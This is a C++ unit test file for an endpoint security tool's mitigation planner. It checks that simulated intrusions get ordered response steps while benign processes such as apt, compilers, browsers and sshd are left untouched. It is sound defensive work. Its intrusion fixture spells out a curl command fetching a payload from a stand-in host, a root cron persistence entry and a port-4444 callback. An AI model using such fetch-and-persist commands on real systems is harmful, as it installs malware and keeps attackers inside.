@@ -1,0 +1,311 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+// What is proposed for traces of harmless and of hostile programs.
+#include "core/mitigation/proposal.h"
+
+#include "core/mitigation/trace_confidence.h"
+#include "core/plan/plan_codec.h"
+#include "tests/endpoint/trace_fixture.h"
+
+using namespace metsuke;
+using namespace metsuke::mitigation;
+using namespace metsuke::endpoint::test;
+using endpoint::FileId;
+using endpoint::ProcessUid;
+using endpoint::Trace;
+using plan::Action;
+using testing::Contains;
+using testing::ElementsAre;
+using testing::IsEmpty;
+using testing::Not;
+
+namespace {
+
+const std::string kDigest(64, 'a');
+constexpr const char* kProgram = "/home/ann/.update";
+const FileId kFile{8, 100};
+
+class Proposing : public testing::Test {
+protected:
+    /// Fetched by curl for a cron job, and calling home since.
+    void intrude() {
+        m_shell = scenario.run(m_cron, "/usr/bin/sh", {"sh", "-c", "curl http://h/u -o .update"});
+        const ProcessUid curl = scenario.run(m_shell, "/usr/bin/curl");
+        scenario.connect(curl, kDrop, 80, 40'000);
+        endpoint::FileChanged written;
+        written.path = kProgram;
+        written.file = kFile;
+        written.sha256 = kDigest;
+        scenario.tell(curl, written);
+        scenario.end(curl);
+        m_program = scenario.run(m_shell, kProgram, {}, kFile);
+        scenario.persist(m_program, "cron", "/etc/cron.d/upd", "* * * * * root /home/ann/.update");
+        m_child = scenario.run(m_program, "/usr/bin/sleep", {"sleep", "9"});
+        scenario.at(60).connect(m_program, kEvil, 4444, 50'000);
+    }
+    Proposal proposal(double at = 60) {
+        m_question.trace = trace(scenario, beacon(at));
+        m_question.device = "device";
+        m_question.boot = m_question.boot.empty() ? "boot" : m_question.boot;
+        return propose(m_question);
+    }
+    static std::vector<Action> actions(const Proposal& proposal, bool isChosen) {
+        std::vector<Action> all;
+        for (const ProposedStep& one : proposal.steps) {
+            if (one.isChosen == isChosen) {
+                all.push_back(one.step.action);
+            }
+        }
+        return all;
+    }
+    static const ProposedStep* find(const Proposal& proposal, Action action) {
+        const auto found = std::ranges::find_if(proposal.steps, [&](const ProposedStep& one) { return one.step.action == action; });
+        return found == proposal.steps.end() ? nullptr : &*found;
+    }
+    static std::vector<std::string> leftOut(const Proposal& proposal) {
+        std::vector<std::string> ids;
+        for (const Message& one : proposal.leftOut) {
+            ids.push_back(one.id);
+        }
+        return ids;
+    }
+    /// Nothing is chosen that changes the computer.
+    static void expectHarmless(const Proposal& proposal) {
+        for (const ProposedStep& one : proposal.steps) {
+            EXPECT_FALSE(one.isChosen && traitsOf(one.step.action).isMutating) << traitsOf(one.step.action).name;
+        }
+    }
+
+    Scenario scenario;
+    ProcessUid m_init = scenario.running(kInit);
+    ProcessUid m_cron = scenario.running(kCron, m_init);
+    ProcessUid m_shell, m_program, m_child;
+    ProposalQuestion m_question;
+};
+
+} // namespace
+
+TEST_F(Proposing, Intrusion_isAnsweredInTheSafeOrder) {
+    intrude();
+    const Proposal made = proposal();
+    EXPECT_THAT(actions(made, true),
+        ElementsAre(Action::CollectEvidence, Action::SuspendProcess, Action::KillConnections, Action::DenyAddress, Action::RemovePersistence,
+            Action::QuarantineFile, Action::KillProcess));
+    EXPECT_THAT(actions(made, false), ElementsAre(Action::ContainHost, Action::ScanFiles));
+    const auto& file = std::get<plan::FileTarget>(find(made, Action::QuarantineFile)->step.target);
+    EXPECT_EQ(file.path, kProgram);
+    EXPECT_EQ(file.sha256, kDigest);
+    const auto& process = std::get<plan::ProcessTarget>(find(made, Action::KillProcess)->step.target);
+    EXPECT_EQ(endpoint::processUid("device", process.boot, process.pid, process.start), m_program);
+    EXPECT_TRUE(process.isTree);
+    EXPECT_EQ(std::get<plan::AddressTarget>(find(made, Action::DenyAddress)->step.target).address, *IpAddress::parse(kEvil));
+    EXPECT_EQ(std::get<plan::PersistenceTarget>(find(made, Action::RemovePersistence)->step.target).path, "/etc/cron.d/upd");
+    for (const ProposedStep& one : made.steps) {
+        EXPECT_FALSE(one.step.why.id.empty());
+        for (const Language language : {Language::English, Language::Japanese}) {
+            EXPECT_THAT(catalog().render(one.step.why, language), Not(testing::HasSubstr("{"))) << one.step.why.id;
+        }
+    }
+}
+
+TEST_F(Proposing, Plan_isOfTheChosenSteps_andTravels) {
+    intrude();
+    const Proposal made = proposal();
+    const auto plan = planOf(made, m_question, kStart);
+    ASSERT_TRUE(plan.ok()) << plan.error().message.id;
+    EXPECT_EQ(plan->steps.size(), actions(made, true).size());
+    EXPECT_EQ(plan->notAfter, kStart + 4 * kHour);
+    const auto read = plan::readPlan(plan::writePlan(*plan));
+    ASSERT_TRUE(read.ok()) << read.error().message.id;
+    EXPECT_EQ(*read, *plan);
+}
+
+TEST_F(Proposing, SameTrace_isAnsweredTheSameWay) {
+    intrude();
+    const Proposal first = proposal(), second = proposal();
+    ASSERT_EQ(first.steps.size(), second.steps.size());
+    for (size_t i = 0; i < first.steps.size(); ++i) {
+        EXPECT_EQ(first.steps[i].step, second.steps[i].step);
+    }
+}
+
+TEST_F(Proposing, TreeOfTheCulprit_isOneStep) {
+    intrude();
+    const Proposal made = proposal();
+    EXPECT_EQ(std::ranges::count_if(made.steps, [](const ProposedStep& one) { return one.step.action == Action::KillProcess; }), 1);
+}
+
+TEST_F(Proposing, ProcessesOfAnEarlierBoot_areLeftAlone) {
+    intrude();
+    m_question.boot = "another boot";
+    const Proposal made = proposal();
+    EXPECT_EQ(find(made, Action::KillProcess), nullptr);
+    EXPECT_EQ(find(made, Action::SuspendProcess), nullptr);
+    EXPECT_THAT(leftOut(made), Contains("mitigation.left_other_boot"));
+    EXPECT_NE(find(made, Action::QuarantineFile), nullptr) << "the file is there still";
+}
+
+TEST_F(Proposing, ProgramThatHasEnded_isNotKilled) {
+    intrude();
+    scenario.end(m_child);
+    scenario.end(m_program);
+    EXPECT_EQ(find(proposal(), Action::KillProcess), nullptr);
+}
+
+TEST_F(Proposing, FileWithoutDigest_isKeptAsEvidenceOnly) {
+    m_shell = scenario.run(m_cron, "/usr/bin/sh", {"sh", "-c", "x"});
+    scenario.write(m_shell, kProgram, kFile);
+    m_program = scenario.run(m_shell, kProgram, {}, kFile);
+    scenario.at(60).connect(m_program, kEvil, 4444, 50'000);
+    const Proposal made = proposal();
+    EXPECT_EQ(find(made, Action::QuarantineFile), nullptr);
+    EXPECT_THAT(leftOut(made), Contains("mitigation.left_no_digest"));
+    EXPECT_NE(find(made, Action::KillProcess), nullptr);
+}
+
+TEST_F(Proposing, Documents_thatTheCulpritWrote_areLeftAsTheyAre) {
+    intrude();
+    for (uint64_t i = 0; i < 5; ++i) {
+        scenario.write(m_program, "/home/ann/letter" + std::to_string(i), {8, 200 + i});
+    }
+    const Proposal made = proposal();
+    EXPECT_EQ(std::ranges::count_if(made.steps, [](const ProposedStep& one) { return one.step.action == Action::QuarantineFile; }), 1);
+    EXPECT_THAT(leftOut(made), Contains("mitigation.left_written"));
+}
+
+TEST_F(Proposing, UpdateOfThePackageManager_changesNothing) {
+    const ProcessUid apt = scenario.run(m_cron, "/usr/bin/apt-get", {"apt-get", "upgrade"});
+    scenario.at(60).connect(apt, kEvil, 4444, 50'000);
+    const Proposal made = proposal();
+    expectHarmless(made);
+    EXPECT_THAT(leftOut(made), Contains("mitigation.left_no_subject"));
+}
+
+TEST_F(Proposing, BrowserAndInteractiveShell_changeNothing) {
+    const ProcessUid terminal = scenario.running("/usr/bin/gnome-terminal-server", m_init);
+    const ProcessUid shell = scenario.run(terminal, "/usr/bin/bash", {"bash"});
+    const ProcessUid browser = scenario.run(shell, "/usr/bin/firefox", {"firefox"});
+    scenario.at(60).connect(browser, kEvil, 4444, 50'000);
+    expectHarmless(proposal());
+}
+
+TEST_F(Proposing, CompilerAtWork_isNeverTouched) {
+    const ProcessUid make = scenario.run(m_cron, "/usr/bin/make", {"make"});
+    const ProcessUid gcc = scenario.run(make, "/usr/bin/gcc", {"gcc", "a.c"});
+    scenario.write(gcc, "/home/ann/a.out", kFile);
+    scenario.at(60).connect(make, kEvil, 4444, 50'000);
+    expectHarmless(proposal());
+}
+
+TEST_F(Proposing, AddressesOfTheIncident_areOfferedOnly_whenNothingIsToBlame) {
+    const ProcessUid apt = scenario.run(m_cron, "/usr/bin/apt-get");
+    scenario.at(60).connect(apt, kEvil, 4444, 50'000);
+    m_question.addresses = {*IpAddress::parse(kEvil)};
+    m_question.names = {"evil.example"};
+    const Proposal made = proposal();
+    expectHarmless(made);
+    EXPECT_THAT(actions(made, false), ElementsAre(Action::DenyAddress, Action::DenyName));
+}
+
+TEST_F(Proposing, LoginsAndInit_belowTheCulprit_areNeverItsTop) {
+    intrude();
+    // Its own child became a service manager's, and a person logged in over a shell that it had started.
+    const ProcessUid session = scenario.fork(m_program);
+    scenario.exec(session, "/usr/sbin/sshd", {"sshd"});
+    scenario.end(m_program);
+    const Proposal made = proposal();
+    for (const ProposedStep& one : made.steps) {
+        if (const auto* target = std::get_if<plan::ProcessTarget>(&one.step.target)) {
+            EXPECT_NE(target->image, "/usr/sbin/sshd");
+        }
+    }
+    EXPECT_THAT(leftOut(made), Contains("mitigation.left_way_in"));
+}
+
+TEST_F(Proposing, ReplacedProgramOfAPackage_isRestored_notTakenAway) {
+    const ProcessUid shell = scenario.run(m_cron, "/usr/bin/sh", {"sh", "-c", "x"});
+    scenario.write(shell, "/usr/sbin/ntpd", kFile);
+    const ProcessUid ntpd = scenario.run(m_cron, "/usr/sbin/ntpd", {}, kFile);
+    scenario.at(60).connect(ntpd, kEvil, 4444, 50'000);
+    const Proposal made = proposal();
+    EXPECT_EQ(find(made, Action::QuarantineFile), nullptr);
+    ASSERT_NE(find(made, Action::RestorePackageFile), nullptr);
+    EXPECT_EQ(std::get<plan::PackageFileTarget>(find(made, Action::RestorePackageFile)->step.target).package, "ntpd");
+}
+
+TEST_F(Proposing, Workstation_isNeverCutOff) {
+    intrude();
+    scenario.connect(m_program, "192.0.2.1", 8883, 50'001);
+    m_question.management = {*IpAddress::parse("192.0.2.1")};
+    const Proposal made = proposal();
+    for (const ProposedStep& one : made.steps) {
+        if (const auto* target = std::get_if<plan::AddressTarget>(&one.step.target)) {
+            EXPECT_NE(target->address, *IpAddress::parse("192.0.2.1"));
+        }
+    }
+}
+
+TEST_F(Proposing, InsideAndProtectedAddresses_areOfferedWithWhy) {
+    intrude();
+    scenario.connect(m_program, "10.0.0.9", 445, 50'001);
+    scenario.connect(m_program, "198.51.100.7", 443, 50'002);
+    m_question.protectedAddresses = {*Cidr::parse("198.51.100.0/24")};
+    const Proposal made = proposal();
+    std::map<std::string, std::string> notes;
+    for (const ProposedStep& one : made.steps) {
+        if (const auto* target = std::get_if<plan::AddressTarget>(&one.step.target); target != nullptr && !one.isChosen) {
+            notes[target->address.toString()] = one.notes.front().id;
+        }
+    }
+    EXPECT_EQ(notes["10.0.0.9"], "mitigation.note_inside");
+    EXPECT_EQ(notes["198.51.100.7"], "mitigation.note_protected");
+    ASSERT_EQ(made.blast.assets.size(), 1U);
+}
+
+TEST_F(Proposing, NameServer_isNotBlocked_becauseTheCulpritAskedIt) {
+    intrude();
+    scenario.connect(m_program, "198.51.100.53", 53, 50'001);
+    for (const ProposedStep& one : proposal().steps) {
+        if (const auto* target = std::get_if<plan::AddressTarget>(&one.step.target)) {
+            EXPECT_NE(target->address.toString(), "198.51.100.53");
+        }
+    }
+}
+
+TEST_F(Proposing, OpenSessions_areTold) {
+    intrude();
+    const Proposal made = proposal();
+    ASSERT_FALSE(made.blast.sessions.empty());
+    EXPECT_EQ(made.blast.sessions.front().id, "mitigation.blast_session");
+}
+
+TEST_F(Proposing, WhatIsUnsure_isOfferedUnchosen) {
+    intrude();
+    m_question.trace = trace(scenario, beacon(60));
+    m_question.device = "device";
+    m_question.boot = "boot";
+    for (endpoint::TraceEdge& edge : m_question.trace.edges) {
+        edge.confidence = edge.to == m_question.trace.connection ? 0.3 : edge.confidence;
+    }
+    const Proposal made = propose(m_question);
+    expectHarmless(made);
+    EXPECT_FALSE(find(made, Action::KillProcess)->isChosen);
+    EXPECT_NEAR(find(made, Action::KillProcess)->confidence, 0.3, 0.01);
+}
+
+TEST_F(Proposing, LargeTrace_isBoundedAndQuick) {
+    intrude();
+    for (uint16_t i = 0; i < 900; ++i) {
+        scenario.connect(m_program, "203.0.113." + std::to_string(i % 250), static_cast<uint16_t>(1'000 + i), static_cast<uint16_t>(20'000 + i));
+    }
+    const Proposal made = proposal();
+    EXPECT_LE(made.steps.size(), plan::kMostSteps);
+    EXPECT_THAT(leftOut(made), Contains("mitigation.left_too_many"));
+    EXPECT_TRUE(planOf(made, m_question, kStart).ok());
+}
+
+TEST(BlastConfidence, TraceWithoutSubject_isSureOfNothing) {
+    Trace empty;
+    empty.nodes.resize(3);
+    empty.blast = {0, 1};
+    EXPECT_THAT(blastConfidence(empty), ElementsAre(0, 0, 0));
+}
